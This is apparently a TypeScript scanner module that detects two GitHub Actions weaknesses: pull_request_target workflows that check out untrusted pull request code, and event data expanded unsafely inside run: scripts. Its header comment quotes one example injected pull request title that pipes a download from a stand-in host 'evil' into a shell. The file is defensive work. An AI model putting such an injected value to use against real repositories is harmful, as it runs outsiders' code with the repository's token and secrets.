/**
 * GitHub Actions workflow files: the two mistakes that hand an outsider the repository.
 *
 * - `pull_request_target` runs with a write token and secrets, in the context of the base branch. Checking
 *   out the pull request's head there and building it runs the outsider's code with those privileges.
 * - `${{ github.event.* }}` inside `run:` is pasted into the shell script before it runs, so a pull request
 *   title such as `"; curl evil | sh; "` is a command. The value must reach the script through `env:`.
 *
 * Rules read the added lines with their surroundings: the whole file when the caller has it, else the lines
 * the diff shows.
 */
import type { ScanFile } from '../diff.js';
import type { ScanFinding, ScanRule, ScanSeverity } from '../finding.js';

export const WORKFLOW_RULES: readonly ScanRule[] = [
  {
    id: 'workflow/pull-request-target-checkout',
    kind: 'pattern',
    name: 'pull_request_target checks out the pull request head',
    description: 'A pull_request_target workflow runs with a write token and secrets; checking out the pull request head there runs untrusted code with them.',
    help: 'Use the pull_request event for anything that builds or runs the contribution. If pull_request_target is needed (labelling, commenting), never check out or run the head; pass data to a separate pull_request workflow through artifacts.',
    severity: 'critical',
    category: 'ci-security',
    cwe: ['CWE-829'],
  },
  {
    id: 'workflow/script-injection',
    kind: 'pattern',
    name: 'Event data expanded inside run:',
    description:
      'An `${{ github.event.* }}` expression inside a run: script is substituted into the script text before the shell runs it, so whoever controls the value (a title, a branch name, a comment) injects commands.',
    help: 'Pass the value through env: (`env: TITLE: ${{ github.event.issue.title }}`) and use "$TITLE" in the script, quoted.',
    severity: 'critical',
    category: 'ci-security',
    cwe: ['CWE-78'],
  },
];

export function isWorkflowPath(path: string): boolean {
  return /(?:^|\/)\.github\/workflows\/[^/]+\.ya?ml$/.test(path);
}

/** Composite actions run `run:` steps too; script injection applies there as well. */
export function isActionMetadataPath(path: string): boolean {
  return /(?:^|\/)action\.ya?ml$/.test(path);
}

/** Lines known by number: the whole file, or the added and context lines of the diff. */
function knownLines(file: ScanFile): Map<number, string> {
  const lines = new Map<number, string>();
  if (file.content !== undefined) {
    file.content.split('\n').forEach((text, index) => lines.set(index + 1, text.replace(/\r$/, '')));
    return lines;
  }
  for (const line of file.context) lines.set(line.line, line.text);
  for (const line of file.added) lines.set(line.line, line.text);
  return lines;
}

function indentOf(text: string): number {
  return text.length - text.trimStart().length;
}

function isBlankOrComment(text: string): boolean {
  const trimmed = text.trim();
  return trimmed === '' || trimmed.startsWith('#');
}

const RUN_KEY = /^\s*(?:-\s+)?(?:run|script)\s*:\s*(.*)$/;
const MAPPING_ENTRY = /^\s*(?:-\s+)?[\w.-]+\s*:(?:\s|$)/;

/**
 * Whether line `number` is script text: the value of a `run:` (or github-script `script:`) key, inline or in
 * a block. Walks up to the first less-indented line; across a gap in the known lines it judges by shape
 * (script lines are rarely `key: value`).
 */
function isInScript(lines: ReadonlyMap<number, string>, number: number): boolean {
  const text = lines.get(number) ?? '';
  const own = RUN_KEY.exec(text);
  if (own) return true;
  const indent = indentOf(text);
  for (let previous = number - 1; previous >= 1; previous--) {
    const candidate = lines.get(previous);
    if (candidate === undefined) return !MAPPING_ENTRY.test(text);
    if (isBlankOrComment(candidate) || indentOf(candidate) >= indent) continue;
    const parent = RUN_KEY.exec(candidate);
    return parent !== null && /^[|>]/.test((parent[1] ?? '').trim());
  }
  return false;
}

// Fields GitHub sets that an outsider cannot shape (numbers, ids, hashes, timestamps, the event's action).
const SAFE_FIELDS =
  /\.(?:number|id|node_id|sha|before|after|created_at|updated_at|closed_at|merged_at|merged|draft|additions|deletions|changed_files|commits|size|forced|run_id|run_number|run_attempt|action|state|private|fork|html_url|url)$/;
// Free text an outsider writes: titles, bodies, branch names, commit messages, author names and e-mails.
const ATTACKER_FIELDS = /\.(?:title|body|message|head_ref|ref|label|name|email|page_name|default_branch|description|text|login)$|^github\.head_ref$/;

function injectedExpressions(text: string): Array<{ expression: string; severity: ScanSeverity }> {
  const found: Array<{ expression: string; severity: ScanSeverity }> = [];
  for (const match of text.matchAll(/\$\{\{([^}]{1,300})\}\}/g)) {
    for (const reference of (match[1] ?? '').matchAll(/\bgithub\.(?:event\.[A-Za-z0-9_.*[\]'"-]{1,200}|head_ref)\b/g)) {
      const expression = reference[0].replace(/\[['"]?([\w-]+)['"]?\]/g, '.$1');
      if (SAFE_FIELDS.test(expression)) continue;
      const severity: ScanSeverity = ATTACKER_FIELDS.test(expression) ? 'critical' : expression.startsWith('github.event.inputs.') ? 'medium' : 'high';
      found.push({ expression, severity });
    }
  }
  return found;
}

const TRIGGER = /\bpull_request_target\b/;
const HEAD_CHECKOUT =
  /\bref\s*:\s*.*(?:github\.event\.pull_request\.head\.(?:sha|ref)|github\.head_ref|refs\/pull\/)|\brepository\s*:\s*.*github\.event\.pull_request\.head\.repo\.full_name|\bgh\s+pr\s+checkout\b|\bgit\s+(?:fetch|checkout)\b.*(?:pull\/|github\.event\.pull_request\.head|github\.head_ref)/;

function finding(rule: ScanRule, file: ScanFile, line: number, text: string, severity: ScanSeverity, title: string, body: string): ScanFinding {
  return {
    ruleId: rule.id,
    kind: 'pattern',
    severity,
    category: rule.category,
    title,
    body: `${body}\n\n${rule.help}`,
    path: file.path,
    line,
    snippet: text.trim(),
  };
}

export function scanWorkflowFile(file: ScanFile): ScanFinding[] {
  const workflow = isWorkflowPath(file.path);
  if (file.status === 'deleted' || (!workflow && !isActionMetadataPath(file.path))) return [];
  const lines = knownLines(file);
  const findings: ScanFinding[] = [];
  const [checkoutRule, injectionRule] = WORKFLOW_RULES as [ScanRule, ScanRule];

  for (const added of file.added) {
    if (isBlankOrComment(added.text) || !isInScript(lines, added.line)) continue;
    for (const { expression, severity } of injectedExpressions(added.text)) {
      findings.push(
        finding(
          injectionRule,
          file,
          added.line,
          added.text,
          severity,
          `\`${expression}\` expanded inside run: in ${file.path}`,
          `Line ${added.line} puts \`\${{ ${expression} }}\` into a script; its value becomes part of the command text.`,
        ),
      );
    }
  }

  if (workflow) {
    const code = [...lines.entries()].filter(([, text]) => !isBlankOrComment(text));
    const triggered = code.some(([, text]) => TRIGGER.test(text));
    const checkouts = code.filter(([, text]) => HEAD_CHECKOUT.test(text));
    const addedNumbers = new Set(file.added.map((line) => line.line));
    const touched = file.added.some((line) => TRIGGER.test(line.text) || HEAD_CHECKOUT.test(line.text));
    if (triggered && checkouts.length > 0 && touched) {
      const [number, text] = checkouts.find(([line]) => addedNumbers.has(line)) ?? checkouts[0] ?? [0, ''];
      findings.push(
        finding(
          checkoutRule,
          file,
          number,
          text,
          'critical',
          `pull_request_target workflow checks out the pull request head in ${file.path}`,
          `This workflow runs on pull_request_target and line ${number} checks out the pull request's head, so code from any fork runs with the base repository's token and secrets.`,
        ),
      );
    }
  }
  return findings;
}
